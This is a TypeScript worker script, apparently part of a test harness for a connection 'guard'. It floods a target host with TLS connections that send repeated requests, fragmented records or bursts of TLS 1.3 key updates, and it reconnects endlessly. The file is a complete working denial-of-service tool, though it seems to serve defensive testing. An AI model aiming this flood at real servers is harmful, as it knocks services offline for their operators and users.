import { once } from 'node:events';
import { connect as connectTcp, type Socket } from 'node:net';
import { createInterface } from 'node:readline';
import { setTimeout as sleep } from 'node:timers/promises';
import { connect as connectTls, type TLSSocket } from 'node:tls';

import type { FloodOrder } from './flood.ts';
import { RECORD_CIPHERS, TlsRecords } from './tls-records.ts';

/** Each connection sends this many key updates in one write. */
const KEY_UPDATES = 50;
/** Between two connections of a client, so that a closed port costs the attacker no processor. */
const RECONNECT_MS = 10;

const [line] = (await once(createInterface(process.stdin), 'line')) as [string];
const { target, kind, connections, bytes: text } = JSON.parse(line) as FloodOrder;
const bytes = Buffer.from(text, 'base64');
// The parent has ended.
process.stdin.on('end', () => process.exit());

let startedCount = 0;

function countStart() {
  startedCount += 1;
  if (startedCount === Math.ceil(connections / 10)) process.stdout.write('started\n');
}

async function connect(): Promise<readonly [tls: TLSSocket, tcp: Socket, records: TlsRecords]> {
  const tcp = connectTcp(target.port, target.host).on('error', () => undefined);
  await once(tcp, 'connect');
  const isRecordAttack = kind === 'records' || kind === 'key updates';
  const ciphers = isRecordAttack ? { ciphers: RECORD_CIPHERS, minVersion: 'TLSv1.3' as const } : {};
  const tls = connectTls({ ...target, socket: tcp, ...ciphers }).on('error', () => undefined);
  let secret = '';
  tls.on('keylog', (keys: Buffer) => {
    secret = /^CLIENT_TRAFFIC_SECRET_0 \w+ (\w+)/.exec(keys.toString())?.[1] ?? secret;
  });
  // The guard may close the connection during the handshake, which is no error of the TLS socket.
  const ended = new AbortController();
  tcp.once('close', () => ended.abort());
  await once(tls, 'secureConnect', { signal: ended.signal });
  return [tls, tcp, new TlsRecords(Buffer.from(secret, 'hex'))];
}

/** Attacks over one connection until the guard closes it. */
async function attack(): Promise<void> {
  const [tls, tcp, records] = await connect();
  const closed = once(tcp, 'close');
  countStart();
  if (kind === 'requests') {
    tls.on('data', (chunk: Buffer) => {
      if (chunk.includes('HTTP/1.1')) tls.write(bytes);
    });
  }
  // Otherwise the end of the connection stays unseen.
  tls.resume();
  if (kind === 'requests' || kind === 'parts') tls.write(bytes);
  else if (kind === 'records') tcp.write(records.split(bytes));
  else {
    const sendMore = () => {
      // A write that ends at once would leave the other connections no turn.
      if (!tcp.destroyed) tcp.write(records.updateKeys(KEY_UPDATES), () => setImmediate(sendMore));
    };
    sendMore();
  }
  await closed;
}

async function attackForever(): Promise<never> {
  for (;;) {
    await attack().catch(() => undefined);
    await sleep(RECONNECT_MS);
  }
}

for (let index = 0; index < connections; index += 1) {
  void attackForever();
  // Handshakes of all connections at once would be another attack.
  if (index % 10 === 9) await sleep(20);
}
